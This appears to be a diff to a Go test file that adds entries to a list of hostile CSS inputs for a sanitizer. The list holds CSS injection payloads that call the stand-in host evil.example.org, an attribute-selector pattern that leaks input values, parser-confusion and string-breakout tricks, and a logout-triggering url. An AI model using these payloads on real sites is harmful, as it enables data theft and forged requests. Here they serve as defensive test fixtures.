@@ -20,6 +20,7 @@ var hostileCSS = []string{
 	`@font-face{font-family:x;src:url(https://evil.example.org/)}`, `body{background:src("https://evil.example.org/")}`, `input[value^="a"]{background:url(https://evil.example.org/a)}`,
 	`body{background:url(https://evil.example.org/`, `body{background:url("https://evil.example.org/`, `body{background:url(/login/logout)}`, `a{content:"\";}body{background:url(https://evil.example.org/)}`,
 	"a{content:\"\n}body{background:url(https://evil.example.org/)}", `/*"*/body{background:url(https://evil.example.org/)}/*"*/`, "body{background:url(\"data:image/png,x\"), url(https://evil.example.org/)}",
+	`url("dAtA:imAge/png,url(")`, `a{content:"url("data:image/png,;}b{background:url(//evil.example.org/);c:")}`, // what is text to one is none to the other
 	"body{behavior:url(x.htc)}", "body{-moz-binding:url(https://evil.example.org/#x)}", "body{background:u\x00rl(https://evil.example.org/)}", "body{background:url(\\\nhttps://evil.example.org/)}",
 }
 
